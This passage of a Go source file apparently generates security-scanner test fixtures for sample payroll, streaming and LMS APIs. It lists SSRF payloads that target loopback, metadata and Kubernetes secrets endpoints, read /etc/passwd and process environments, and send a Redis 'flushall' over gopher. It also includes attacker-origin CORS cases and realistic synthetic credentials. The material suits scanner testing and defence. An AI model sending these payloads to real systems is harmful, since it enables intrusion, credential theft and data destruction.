	"http://[0:0:0:0:0:ffff:127.0.0.1]/",
	"http://2130706433/",
	"http://017700000001/",
	"http://0x7f.0x0.0x0.0x1/",
	"http://0177.1/",
	"http://0x7f000001/",
	"http://localhost:2375/containers/json",
	"http://LOCALHOST./server-status",
	"http://[::]:22/",
	"http://①②⑦.⓪.⓪.①/",
	// wildcard DNS embedding an internal address
	"http://localtest.me/",
	"http://app.10.0.0.5.nip.io/",
	"http://7f000001.nip.io/",
	"http://api.lvh.me:3000/",
	"http://10-0-0-7.sslip.io/",
	// private, CGNAT and link-local
	"http://10.0.0.12:8500/v1/agent/self",
	"http://192.168.1.1/cgi-bin/luci",
	"http://172.16.5.4:9000/minio/admin/v3/info",
	"http://172.31.255.1/",
	"http://100.64.0.1/",
	"http://[fe80::1%25eth0]/",
	"http://169.254.1.1/",
	"http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
	// userinfo and fragment tricks
	"https://cdn.stream.example@127.0.0.1/",
	"http://user:pass@10.1.2.3/",
	"http://169.254.169.254#@cdn.stream.example/",
	"http://cdn.stream.example%2540169.254.169.254/",
	// schemes
	"file:///etc/passwd",
	"file://localhost/c:/windows/win.ini",
	"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
	"dict://127.0.0.1:11211/stats",
	"ldap://10.0.0.3:389/dc=corp",
	"gopher://10.0.0.9:25/_HELO%20x",
	"file:///proc/self/environ",
	"http://[::ffff:7f00:1]:8500/v1/kv/?recurse",
}

var h4SSRFSpots = [3][]h4Spot{
	{{"POST", "/api/v1/webhooks", "webhook_url"}, {"POST", "/api/v1/integrations/import", "sourceUrl"}, {"PATCH", "/api/v1/employees/4471/avatar", "avatarUrl"}, {"GET", "/api/v1/documents/fetch", "url"}},
	{{"POST", "/v2/ingest/jobs", "manifestUrl"}, {"POST", "/v2/titles/9012/artwork", "image_url"}, {"GET", "/v2/thumbnails/proxy", "src"}, {"POST", "/api/v1/notifications/subscribe", "callbackUrl"}},
	{{"POST", "/v1/courses/311/resources", "link"}, {"POST", "/v1/calendar/subscribe", "icsUrl"}, {"GET", "/v1/lti/launch", "target_link_uri"}, {"POST", "/v1/profile/photo", "photo_url"}},
}

var h4HostOverride = []struct{ name, val string }{
	{"X-Forwarded-Host", "169.254.169.254"},
	{"X-Original-Host", "metadata.google.internal"},
	{"X-Host", "127.0.0.1:8080"},
	{"X-Forwarded-Server", "10.0.0.15"},
	{"X-HTTP-Host-Override", "[::1]"},
	{"X-Forwarded-Host", "0xA9FEA9FE"},
}

// ---- verbose errors and CORS ----

var h4VerboseBodies = []struct{ ctype, body string }{
	// Go
	{"text/plain; charset=utf-8", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x6d1f2a]\n\ngoroutine 1287 [running]:\ngithub.com/acmehr/payroll/internal/payslip.(*Service).Render(0x0, {0x9a3c40, 0xc0004a2000})\n\t/build/internal/payslip/service.go:212 +0x4a\nnet/http.HandlerFunc.ServeHTTP(...)\n\t/usr/local/go/src/net/http/server.go:2220"},
	{"application/json", `{"error":"internal","detail":"goroutine 44 [running]:\nmain.(*handler).watch(0xc000120000)\n\t/src/cmd/streamd/watch.go:88 +0x1f4\ncreated by main.main in goroutine 1\n\t/src/cmd/streamd/main.go:41 +0x2b5"}`},
	// Java
	{"application/json", `{"timestamp":"2026-10-20T09:12:44.120+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.NullPointerException: Cannot invoke \"com.lms.grade.Rubric.getWeight()\" because \"rubric\" is null\n\tat com.lms.grade.GradeService.compute(GradeService.java:147)\n\tat com.lms.grade.GradeController.submit(GradeController.java:61)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)","path":"/v1/gradebook"}`},
	{"text/html", "<html><head><title>Apache Tomcat/10.1.28 - Error report</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><p><b>Exception</b></p><pre>org.apache.jasper.JasperException: An exception occurred processing [/WEB-INF/views/payslip.jsp] at line [42]\n\torg.apache.jasper.servlet.JspServletWrapper.handleJspException(JspServletWrapper.java:610)</pre></body></html>"},
	{"application/json", `{"message":"org.hibernate.exception.SQLGrammarException: could not extract ResultSet","cause":"org.postgresql.util.PSQLException: ERROR: column e.salary_band does not exist\n  Position: 118"}`},
	{"text/html", "<html><body><h1>Whitelabel Error Page</h1><p>This application has no explicit mapping for /error, so you are seeing this as a fallback.</p><div>There was an unexpected error (type=Internal Server Error, status=500).</div><div>java.lang.IllegalStateException: Ambiguous handler methods mapped for '/v2/titles/42'\n\tat org.springframework.web.servlet.handler.AbstractHandlerMethodMapping.lookupHandlerMethod(AbstractHandlerMethodMapping.java:431)</div></body></html>"},
	{"application/json", `{"error":"com.fasterxml.jackson.databind.exc.InvalidFormatException: Cannot deserialize value of type ` + "`java.time.LocalDate`" + ` from String \"20-10-2026\": Failed to deserialize java.time.LocalDate"}`},
	// Python
	{"text/plain", "Traceback (most recent call last):\n  File \"/srv/lms/app/views/grades.py\", line 88, in export\n    rows = build_rows(course)\n  File \"/srv/lms/app/services/export.py\", line 31, in build_rows\n    return [r.score / r.max_score for r in course.results]\nZeroDivisionError: division by zero"},
	{"application/json", `{"detail":"Traceback (most recent call last):\n  File \"/usr/local/lib/python3.12/site-packages/starlette/routing.py\", line 693, in lifespan\n    async with self.lifespan_context(app) as maybe_state:\nKeyError: 'PAYROLL_DB_URL'"}`},
	{"text/html", "<!DOCTYPE html><html><head><title>KeyError at /api/v1/timesheets/</title></head><body><h1>KeyError at /api/v1/timesheets/</h1><pre class=\"exception_value\">'week_start'</pre><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></body></html>"},
	{"text/html", "<!doctype html><html><head><title>TypeError: unsupported operand type(s) for +: 'int' and 'str' // Werkzeug Debugger</title></head><body><div class=\"debugger\"><h1>TypeError</h1><div class=\"traceback\"><h3>Traceback <em>(most recent call last)</em></h3><pre>File \"/app/stream/api.py\", line 54, in progress</pre></div></div></body></html>"},
	// .NET
	{"text/html", "<html><head><title>Server Error in '/' Application.</title></head><body><h1>Server Error in '/' Application.</h1><h2><i>Object reference not set to an instance of an object.</i></h2><b>Exception Details: </b>System.NullReferenceException: Object reference not set to an instance of an object.<br><pre>[NullReferenceException]\n   at Payroll.Web.Controllers.TaxController.Get(Int32 id) in D:\\a\\1\\s\\src\\Payroll.Web\\Controllers\\TaxController.cs:line 57</pre></body></html>"},
	{"application/problem+json", `{"type":"https://tools.ietf.org/html/rfc9110#section-15.6.1","title":"An error occurred while processing your request.","status":500,"detail":"System.InvalidOperationException: Sequence contains no elements\r\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\r\n   at Lms.Api.Services.EnrollmentService.GetActiveTermAsync() in /src/Lms.Api/Services/EnrollmentService.cs:line 112"}`},
	{"application/json", `{"error":"Microsoft.Data.SqlClient.SqlException (0x80131904): Invalid column name 'CostCentre'.\n   at Microsoft.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection)"}`},
	// Node.js
	{"application/json", `{"error":"TypeError: Cannot read properties of undefined (reading 'duration')\n    at EpisodeMapper.toDto (/app/dist/mappers/episode.js:27:31)\n    at Array.map (<anonymous>)\n    at async Promise.all (index 0)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)"}`},
	{"text/html", "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Error</title></head><body><pre>ReferenceError: termId is not defined<br> &nbsp; &nbsp;at /srv/lms/routes/attendance.js:44:18<br> &nbsp; &nbsp;at Layer.handle [as handle_request] (/srv/lms/node_modules/express/lib/router/layer.js:95:5)</pre></body></html>"},
	{"application/json", `{"statusCode":500,"message":"Error: ENOENT: no such file or directory, open '/app/templates/payslip-v3.hbs'\n    at async open (node:internal/fs/promises:639:25)\n    at async Object.readFile (node:internal/fs/promises:1242:14)\n    at async file:///app/src/render.mjs:18:20"}`},
	{"application/json", `{"error":"PrismaClientKnownRequestError: \nInvalid ` + "`prisma.enrollment.create()`" + ` invocation in\n/app/src/enroll.ts:41:37\n\nUnique constraint failed on the fields: (` + "`studentId`,`courseId`" + `)","code":"P2002"}`},
	// PHP
	{"text/html", "<br />\n<b>Fatal error</b>:  Uncaught TypeError: number_format(): Argument #1 ($num) must be of type float, string given in /var/www/payroll/src/Payslip.php:73\nStack trace:\n#0 /var/www/payroll/src/Payslip.php(73): number_format('n/a', 2)\n#1 /var/www/payroll/public/index.php(21): Payslip->render()\n#2 {main}\n  thrown in <b>/var/www/payroll/src/Payslip.php</b> on line <b>73</b><br />"},
	{"application/json", "<br />\n<b>Warning</b>:  Undefined array key \"course_id\" in <b>/var/www/html/api/v1/modules.php</b> on line <b>28</b><br />\n{\"modules\":[]}"},
	{"text/html", "<!DOCTYPE html><html><head><title>Illuminate\\Database\\QueryException</title></head><body><div class=\"exception\">SQLSTATE[42S22]: Column not found: 1054 Unknown column 'guardian_phone' in 'field list' (Connection: mysql, SQL: select `guardian_phone` from `students` where `id` = 20931)</div><p>Whoops, looks like something went wrong.</p></body></html>"},
	{"text/html", "<!DOCTYPE html><html><head><title>Undefined variable $plan (500 Internal Server Error)</title></head><body class=\"exception\"><h1>Symfony Exception</h1><div class=\"trace-line\">in /srv/app/src/Controller/SubscriptionController.php (line 64)</div></body></html>"},
	{"application/json", `{"message":"PDOException: SQLSTATE[HY000] [2002] Connection refused in /var/www/lms/vendor/doctrine/dbal/src/Driver/PDO/Exception.php:28"}`},
	{"text/html", "<br />\n<b>Notice</b>:  Trying to access array offset on value of type null in <b>/var/www/stream/inc/player.php</b> on line <b>102</b><br />"},
	// Ruby
	{"application/json", `{"status":500,"error":"Internal Server Error","exception":"#<NoMethodError: undefined method 'hours' for nil:NilClass>","traces":{"Application Trace":[{"id":0,"trace":"app/controllers/api/v1/timesheets_controller.rb:34:in 'Api::V1::TimesheetsController#update'"}]}}`},
	{"text/plain", "NameError: undefined local variable or method `cohort' for an instance of GradebookController\n/srv/lms/app/controllers/gradebook_controller.rb:19:in `index'\n/usr/local/bundle/gems/actionpack-7.2.1/lib/action_controller/metal/basic_implicit_render.rb:8:in `send_action'"},
	{"text/html", "<!DOCTYPE html><html><head><title>Action Controller: Exception caught</title></head><body><h1>ActiveRecord::StatementInvalid in Api::ProfilesController#show</h1><pre>PG::UndefinedTable: ERROR:  relation \"profile_prefs\" does not exist\nLINE 1: SELECT \"profile_prefs\".* FROM \"profile_prefs\" WHERE ...\n                                      ^</pre><p>Rails.root: /app</p></body></html>"},
	// Rust
	{"text/plain", "thread 'tokio-runtime-worker' panicked at src/transcode/queue.rs:144:38:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace"},
	// MySQL
	{"application/json", `{"error":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''Brien' ORDER BY last_name' at line 1"}`},
	{"application/json", `{"error":"ERROR 1146 (42S02): Table 'payroll.tax_brackets_2027' doesn't exist"}`},
	{"application/json", `{"code":"ER_BAD_FIELD_ERROR","errno":1054,"sqlMessage":"Unknown column 'episodes.runtime_sec' in 'order clause'","sqlState":"42S22"}`},
	{"application/json", `{"error":"Error 1062 (23000): Duplicate entry 'jane.okafor@acme-hr.example' for key 'employees.uniq_email'"}`},
	{"application/json", `{"error":"Deadlock found when trying to get lock; try restarting transaction"}`},
	// PostgreSQL
	{"application/json", `{"error":"pq: syntax error at or near \"ORDER\""}`},
	{"application/json", `{"message":"ERROR: invalid input syntax for type uuid: \"latest\" (SQLSTATE 22P02)"}`},
	{"text/plain", "ERROR:  column \"grade_pct\" does not exist\nLINE 1: SELECT student_id, grade_pct FROM results WHERE course_id = $1\n                           ^\nHINT:  Perhaps you meant to reference the column \"results.grade_pc\"."},
	{"application/json", `{"error":"ERROR: duplicate key value violates unique constraint \"watch_history_pkey\" (SQLSTATE 23505)"}`},
	// SQLite
	{"application/json", `{"error":"SQLITE_ERROR: no such column: modules.position"}`},
	{"application/json", `{"error":"UNIQUE constraint failed: devices.serial","code":"SQLITE_CONSTRAINT_UNIQUE"}`},
	// SQL Server
	{"application/json", `{"error":"Unclosed quotation mark after the character string 'O'. Incorrect syntax near 'Brien'."}`},
	{"text/html", "<html><body><font face=\"Arial\" size=2><p>Microsoft OLE DB Provider for ODBC Drivers</font> <font face=\"Arial\" size=2>error '80040e14'</font><p><font face=\"Arial\" size=2>[Microsoft][ODBC SQL Server Driver][SQL Server]Incorrect syntax near the keyword 'FROM'.</font></body></html>"},
	{"application/json", `{"error":"Conversion failed when converting the nvarchar value 'Q4' to data type int."}`},
	// Oracle
	{"application/json", `{"error":"ORA-00933: SQL command not properly ended"}`},
	{"application/json", `{"error":"java.sql.SQLSyntaxErrorException: ORA-00904: \"EMP\".\"BONUS_PCT\": invalid identifier"}`},
	{"application/json", `{"error":"ORA-01756: quoted string not properly terminated"}`},
	// Db2 and Go database/sql
	{"application/json", `{"error":"DB2 SQL Error: SQLCODE=-204, SQLSTATE=42704, SQLERRMC=PAYROLL.TAXCODES, DRIVER=4.33.31"}`},
	{"application/json", `{"error":"sql: Scan error on column index 3, name \"ended_at\": converting NULL to string is unsupported"}`},
	{"application/json", `{"error":"sql: converting argument $2 type: unsupported type []string, a slice of string"}`},
	// debug JSON from frameworks
	{"application/json", `{"message":"Undefined array key \"term\"","exception":"ErrorException","file":"/var/www/lms/app/Http/Controllers/TermController.php","line":37,"trace":[{"file":"/var/www/lms/vendor/laravel/framework/src/Illuminate/Foundation/Bootstrap/HandleExceptions.php","line":256,"function":"handleError"}]}`},
	{"application/json", `{"errors":[{"message":"Cannot return null for non-nullable field Title.duration.","extensions":{"code":"INTERNAL_SERVER_ERROR","stacktrace":["Error: Cannot return null for non-nullable field Title.duration.","    at completeValue (/app/node_modules/graphql/execution/execute.js:594:13)","    at /app/node_modules/graphql/execution/execute.js:486:9"]}}]}`},
	{"application/json", `{"error":"(psycopg2.errors.UndefinedColumn) column \"bonus\" does not exist\nLINE 1: SELECT employees.bonus FROM employees\n               ^\n[SQL: SELECT employees.bonus FROM employees]\n(Background on this error at: https://sqlalche.me/e/20/f405)"}`},
	{"application/json", `{"error":"org.springframework.dao.DataIntegrityViolationException: could not execute statement; SQL [n/a]; constraint [uk_enrollment_student_course]"}`},
	{"text/plain", "ZeroDivisionError: divided by 0\n/srv/payroll/lib/proration.rb:18:in 'Integer#/'\n/srv/payroll/lib/proration.rb:18:in 'Proration.daily_rate'\n/srv/payroll/app/jobs/payrun_job.rb:44:in 'block in PayrunJob#perform'"},
	{"application/json", `{"err":"SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON\n    at JSON.parse (<anonymous>)\n    at parseJSONFromBytes (node:internal/deps/undici/undici:5584:19)\n    at file:///app/src/lib/tmdb.mjs:33:27"}`},
	{"text/html", "<br />\n<b>Warning</b>:  mysqli_num_rows() expects parameter 1 to be mysqli_result, bool given in <b>/var/www/html/lms/attendance.php</b> on line <b>57</b><br />"},
	{"application/json", `{"error":{"message":"Traceback (most recent call last):\n  File \"/app/payroll/tasks.py\", line 201, in run_payroll\n    net = gross - deductions[\"pension\"]\nKeyError: 'pension'"}}`},
}

// CORS reflecting an untrusted origin with credentials
var h4CORSOrigins = []struct{ origin, acao string }{
	{"https://evil-attacker.example", "https://evil-attacker.example"},
	{"null", "null"},
	{"https://payroll.example.attacker.example", "https://payroll.example.attacker.example"},
	{"https://stream-example.phish.example", "https://stream-example.phish.example"},
	{"http://localhost:8000", "http://localhost:8000"},
	{"https://x.oast.example", "*"},
	{"https://lms.example.evil.example", "https://lms.example.evil.example"},
	{"http://lms.example", "http://lms.example"},
}

// ---- sensitive data ----

func h4Luhn(prefix string, length int, r *rand.Rand) string {
	b := []byte(prefix)
	for len(b) < length-1 {
		b = append(b, byte('0'+r.IntN(10)))
	}
	sum := 0
	for i := len(b) - 1; i >= 0; i-- {
		d := int(b[i] - '0')
		if (len(b)-1-i)%2 == 0 {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return string(b) + string(byte('0'+(10-sum%10)%10))
}

func h4LuhnOK(n string) bool {
	sum := 0
	for i := len(n) - 1; i >= 0; i-- {
		d := int(n[i] - '0')
		if (len(n)-1-i)%2 == 1 {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return sum%10 == 0
}

const h4Alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
const h4Upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
const h4Hex = "0123456789abcdef"

func h4Rand(r *rand.Rand, set string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = set[r.IntN(len(set))]
	}
	return string(b)
}

func h4PEM(kind string, r *rand.Rand) string {
	var lines []string
	for i := 0; i < 6; i++ {
		lines = append(lines, h4Rand(r, h4Alnum+"+/", 64))
	}
	return "-----BEGIN " + kind + "-----\n" + strings.Join(lines, "\n") + "\n" + h4Rand(r, h4Alnum, 20) + "==\n-----END " + kind + "-----"
}

// h4SensitiveBodies returns response bodies carrying a secret (ctype, body).
func h4SensitiveBodies(r *rand.Rand) [][2]string {
	js := "application/json"
	card := func(prefix string, n int) string { return h4Luhn(prefix, n, r) }
	group4 := func(s string) string {
		var p []string
		for i := 0; i < len(s); i += 4 {
			e := min(i+4, len(s))
			p = append(p, s[i:e])
		}
		return strings.Join(p, " ")
	}
	bcryptTail := h4Rand(r, h4Alnum+"./", 53)
	var out [][2]string
	add := func(ct, b string) { out = append(out, [2]string{ct, b}) }
	// card numbers: various issuers, keys, groupings, free text, CSV
	add(js, h4J(map[string]any{"employeeId": "E-4471", "corporateCard": map[string]any{"cardNumber": card("4", 16), "expiry": "09/28"}}))
	add(js, h4J(map[string]any{"reimbursement": map[string]any{"card_number": card("51", 16), "holder": "Aoife O'Brien"}}))
	add(js, h4J(map[string]any{"payment": map[string]any{"number": card("37", 15), "brand": "amex"}}))
	add(js, h4J(map[string]any{"billing": map[string]any{"pan": card("6011", 16)}}))
	add(js, h4J(map[string]any{"subscription": map[string]any{"plan": "premium", "paymentMethod": map[string]any{"card": group4(card("4", 16)), "exp": "11/27"}}}))
	add(js, h4J(map[string]any{"cc": card("2221", 16), "name": "Luis Ortega"}))
	add(js, h4J(map[string]any{"giftPurchase": map[string]any{"ccNumber": card("3530", 16)}}))
	add(js, h4J(map[string]any{"creditCardNumber": card("62", 16), "network": "unionpay"}))
	add(js, h4J(map[string]any{"card_no": card("6759", 16), "scheme": "maestro"}))
	add(js, h4J(map[string]any{"cardNum": card("2200", 16), "scheme": "mir"}))
	add(js, h4J(map[string]any{"primary_account_number": card("36", 14)}))
	add(js, h4J(map[string]any{"note": "Card " + strings.ReplaceAll(group4(card("55", 16)), " ", "-") + " was charged for the school trip deposit."}))
	add(js, h4J(map[string]any{"ticket": map[string]any{"message": "Please refund my credit card " + card("4", 16) + " for the duplicate charge"}}))
	add("text/csv", "employee_id,name,card_number,limit\nE-1001,Priya Raman,"+card("4", 16)+",2500\nE-1002,Tom Weller,"+card("5", 16)+",1500\n")
	add(js, h4J(map[string]any{"devices": []any{map[string]any{"id": "tv-1"}}, "billing": []any{map[string]any{"cardNumber": card("4", 13)}}}))
	// passwords and hashes
	add(js, h4J(map[string]any{"id": 20931, "username": "m.kowalski", "password_hash": "$2b$12$" + bcryptTail}))
	add(js, h4J(map[string]any{"user": map[string]any{"email": "t.nguyen@acme-hr.example", "passwordHash": "$2y$10$" + h4Rand(r, h4Alnum+"./", 53)}}))
	add(js, h4J(map[string]any{"account": map[string]any{"login": "kids-profile", "hash": "$argon2id$v=19$m=65536,t=3,p=4$" + h4Rand(r, h4Alnum+"+/", 22) + "$" + h4Rand(r, h4Alnum+"+/", 43)}}))
	add(js, h4J(map[string]any{"staff": []any{map[string]any{"name": "Ms Adeyemi", "pwd": "$6$rounds=656000$" + h4Rand(r, h4Alnum, 16) + "$" + h4Rand(r, h4Alnum+"./", 86)}}}))
	add(js, h4J(map[string]any{"username": "teacher42", "password": "pbkdf2_sha256$720000$" + h4Rand(r, h4Alnum, 22) + "$" + h4Rand(r, h4Alnum+"+/", 43) + "="}))
	add(js, h4J(map[string]any{"user": "svc-export", "pwd_sha256": h4Rand(r, h4Hex, 64)}))
	add(js, h4J(map[string]any{"login": "jdoe", "password_sha1": h4Rand(r, h4Hex, 40)}))
	add(js, h4J(map[string]any{"profile": map[string]any{"email": "coach.b@lms.example", "password": "Summer2026!Gym"}}))
	add(js, h4J(map[string]any{"sftp": map[string]any{"host": "sftp.bank-partner.example", "user": "acmehr", "pass": "q8#Lm2v!Tz"}}))
	// private keys
	add(js, h4J(map[string]any{"signing": map[string]any{"privateKey": h4PEM("RSA PRIVATE KEY", r)}}))
	add(js, h4J(map[string]any{"tls": map[string]any{"key": h4PEM("EC PRIVATE KEY", r), "cert": "see vault"}}))
	add("text/plain", h4PEM("OPENSSH PRIVATE KEY", r))
	add(js, h4J(map[string]any{"drm": map[string]any{"license_key_pem": h4PEM("PRIVATE KEY", r)}}))
	add(js, h4J(map[string]any{"keys": []any{map[string]any{"kty": "EC", "crv": "P-256", "kid": "lti-2026", "x": h4Rand(r, h4Alnum+"-_", 43), "y": h4Rand(r, h4Alnum+"-_", 43), "d": h4Rand(r, h4Alnum+"-_", 43)}}}))
	add(js, h4J(map[string]any{"kty": "RSA", "kid": "payroll-sso", "n": h4Rand(r, h4Alnum+"-_", 342), "e": "AQAB", "d": h4Rand(r, h4Alnum+"-_", 342), "p": h4Rand(r, h4Alnum+"-_", 171), "q": h4Rand(r, h4Alnum+"-_", 171)}))
	add(js, h4J(map[string]any{"key": h4PEM("ENCRYPTED PRIVATE KEY", r)}))
	// cloud credentials
	add(js, h4J(map[string]any{"storage": map[string]any{"accessKeyId": "AKIA" + h4Rand(r, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16), "secretAccessKey": h4Rand(r, h4Alnum+"+/", 40)}}))
	add(js, h4J(map[string]any{"Credentials": map[string]any{"AccessKeyId": "ASIA" + h4Rand(r, h4Upper, 16), "SecretAccessKey": h4Rand(r, h4Alnum+"+/", 40), "SessionToken": "IQoJb3JpZ2luX2VjE" + h4Rand(r, h4Alnum+"+/", 180), "Expiration": "2026-10-20T14:00:00Z"}}))
	add(js, h4J(map[string]any{"type": "service_account", "project_id": "stream-transcode-prod", "private_key_id": h4Rand(r, h4Hex, 40), "private_key": h4PEM("PRIVATE KEY", r), "client_email": "transcoder@stream-transcode-prod.iam.gserviceaccount.com"}))
	add(js, h4J(map[string]any{"maps": map[string]any{"apiKey": "AIza" + h4Rand(r, h4Alnum+"-_", 35)}}))
	add(js, h4J(map[string]any{"blob": "DefaultEndpointsProtocol=https;AccountName=lmsuploads;AccountKey=" + h4Rand(r, h4Alnum+"+/", 86) + "==;EndpointSuffix=core.windows.net"}))
	add(js, h4J(map[string]any{"bus": "Endpoint=sb://payroll-events.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=" + h4Rand(r, h4Alnum+"+/", 43) + "="}))
	add(js, h4J(map[string]any{"exportUrl": "https://lmsexports.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-10-20T00:00:00Z&st=2026-10-20T00:00:00Z&spr=https&sig=" + url.QueryEscape(h4Rand(r, h4Alnum+"+/", 43)+"=")}))
	add(js, h4J(map[string]any{"azure": map[string]any{"tenantId": "6f1c3a57-1f49-4d3a-9b1e-0a2f5c7d8e91", "clientId": "0b6e2d41-8c1a-4f3e-a2d7-5e9b1c4f7a20", "clientSecret": h4Rand(r, h4Alnum, 3) + "8Q~" + h4Rand(r, h4Alnum+"~._-", 34)}}))
	// API secrets by vendor prefix
	add(js, h4J(map[string]any{"integrations": map[string]any{"github": "ghp_" + h4Rand(r, h4Alnum, 36)}}))
	add(js, h4J(map[string]any{"ci": map[string]any{"token": "github_pat_11" + h4Rand(r, h4Upper, 20) + "_" + h4Rand(r, h4Alnum, 59)}}))
	add(js, h4J(map[string]any{"gitlab_token": "glpat-" + h4Rand(r, h4Alnum+"-_", 20)}))
	add(js, h4J(map[string]any{"slack": map[string]any{"botToken": "xoxb-" + h4Rand(r, "0123456789", 12) + "-" + h4Rand(r, "0123456789", 13) + "-" + h4Rand(r, h4Alnum, 24)}}))
	add(js, h4J(map[string]any{"notify": map[string]any{"slack_user_token": "xoxp-" + h4Rand(r, "0123456789", 12) + "-" + h4Rand(r, "0123456789", 12) + "-" + h4Rand(r, "0123456789", 13) + "-" + h4Rand(r, h4Hex, 32)}}))
	add(js, h4J(map[string]any{"registry": map[string]any{"npmToken": "npm_" + h4Rand(r, h4Alnum, 36)}}))
	add(js, h4J(map[string]any{"merch": map[string]any{"shopify_access_token": "shpat_" + h4Rand(r, h4Hex, 32)}}))
	add(js, h4J(map[string]any{"billing": map[string]any{"stripeKey": "sk_live_" + h4Rand(r, h4Alnum, 99)}}))
	add(js, h4J(map[string]any{"billing": map[string]any{"restricted": "rk_live_" + h4Rand(r, h4Alnum, 99)}}))
	add(js, h4J(map[string]any{"pos": map[string]any{"square_secret": "sq0csp-" + h4Rand(r, h4Alnum+"-_", 43)}}))
	add(js, h4J(map[string]any{"ai": map[string]any{"openai_api_key": "sk-proj-" + h4Rand(r, h4Alnum+"-_", 156)}}))
	add(js, h4J(map[string]any{"tutorBot": map[string]any{"anthropicKey": "sk-ant-api03-" + h4Rand(r, h4Alnum+"-_", 93) + "AA"}}))
	add(js, h4J(map[string]any{"mail": map[string]any{"sendgrid_api_key": "SG." + h4Rand(r, h4Alnum+"-_", 22) + "." + h4Rand(r, h4Alnum+"-_", 43)}}))
	add(js, h4J(map[string]any{"sso": map[string]any{"client_id": "lms-portal", "client_secret": h4Rand(r, h4Alnum, 40)}}))
	add(js, h4J(map[string]any{"webhook": map[string]any{"signingSecret": "whsec_" + h4Rand(r, h4Alnum, 32)}}))
	add(js, h4J(map[string]any{"config": map[string]any{"x-api-key": h4Rand(r, h4Alnum, 40), "api_secret": h4Rand(r, h4Alnum, 48)}}))
	// passwords in connection URLs
	add(js, h4J(map[string]any{"datasource": "postgres://payroll_app:Xk29!vLq7p@db-primary.internal:5432/payroll?sslmode=require"}))
	add(js, h4J(map[string]any{"mongoUri": "mongodb+srv://streamsvc:" + h4Rand(r, h4Alnum, 16) + "@cluster0.ab1cd.mongodb.net/catalog"}))
	add(js, h4J(map[string]any{"cache": "redis://:" + h4Rand(r, h4Alnum, 24) + "@10.0.3.8:6379/0"}))
	add(js, h4J(map[string]any{"amqp": "amqps://lms:" + h4Rand(r, h4Alnum, 18) + "@mq.lms.internal:5671/%2F"}))
	// .env, INI and TOML text bodies
	add("text/plain", "APP_ENV=production\nAPP_KEY=base64:"+h4Rand(r, h4Alnum+"+/", 43)+"=\nDB_HOST=127.0.0.1\nDB_USERNAME=lms\nDB_PASSWORD="+h4Rand(r, h4Alnum, 18)+"\nMAIL_PASSWORD="+h4Rand(r, h4Alnum, 16)+"\n")
	add("text/plain", "[database]\nhost = db.payroll.internal\nuser = payroll\npassword = "+h4Rand(r, h4Alnum, 20)+"\n\n[smtp]\nhost = smtp.example\n")
	add("application/toml", "[storage]\nbucket = \"stream-masters\"\naws_access_key_id = \"AKIA"+h4Rand(r, h4Upper, 16)+"\"\naws_secret_access_key = \""+h4Rand(r, h4Alnum+"+/", 40)+"\"\n")
	add("text/plain", "# generated\nSTRIPE_SECRET_KEY=sk_live_"+h4Rand(r, h4Alnum, 99)+"\nSENTRY_DSN=https://"+h4Rand(r, h4Hex, 32)+"@o1.ingest.sentry.io/42\n")
	return out
}

var h4SensitivePaths = [3][]string{
	{"/api/v1/employees/4471", "/api/v1/settings/integrations", "/api/v1/expenses/88231", "/api/v1/export/cards.csv", "/v2/admin/config"},
	{"/v2/account/billing", "/api/v1/profiles/me", "/v2/internal/transcode/config", "/api/v1/devices", "/v2/subscriptions/current"},
	{"/v1/users/20931", "/v1/integrations", "/v1/settings/mail", "/v1/staff", "/v1/config/.env"},
}

// ---- resource limits ----

var h4LimitQueries = []string{
	// query parameters (names and spellings vary by framework)
	"limit=5000", "per_page=10000", "pageSize=25000", "page_size=99999", "%24top=100000", "top=5000",
	"maxItems=20000", "results_per_page=1500", "itemsPerPage=50000", "max_results=9999", "maxResults=100000",
	"count=250000", "rows=100000", "num_results=12000", "page%5Bsize%5D=5000", "page%5Blimit%5D=10000",
	"perPage=1000000", "pagesize=2000", "PageSize=65535", "limit=2147483647", "first=50000", "take=10000",
	"size=5000&from=0", "fetch_size=100000", "batchSize=30000", "recordsPerPage=9000", "numItems=4000",
	"max_page_size=8000", "pageLimit=15000", "limit=1e6",
}

var h4LimitJSON = []string{
	// JSON bodies at various depths
	`{"limit":100000,"filter":{"status":"active"}}`,
	`{"pagination":{"page":1,"size":50000}}`,
	`{"query":{"match_all":{}},"from":0,"size":10000}`,
	`{"paging":{"perPage":20000,"cursor":null}}`,
	`{"options":{"pageSize":99999,"sort":"-createdAt"}}`,
	`{"criteria":{"department":"finance"},"page":{"number":1,"size":4000}}`,
	`{"pageable":{"page":0,"size":100000}}`,
	`{"request":{"listParams":{"maxResults":75000}}}`,
	`{"per_page":"5000"}`,
	`{"batch":[{"op":"list","limit":20000}]}`,
	`{"pager":{"size":3000}}`,
	`{"export":{"rowsPerPage":250000}}`,
}

var h4LimitGraphQL = []struct{ query, vars string }{
	{`query { employees(first: 100000) { edges { node { id name salary } } } }`, `{}`},
	{`query Titles($n: Int!) { titles(limit: $n) { id title } }`, `{"n":50000}`},
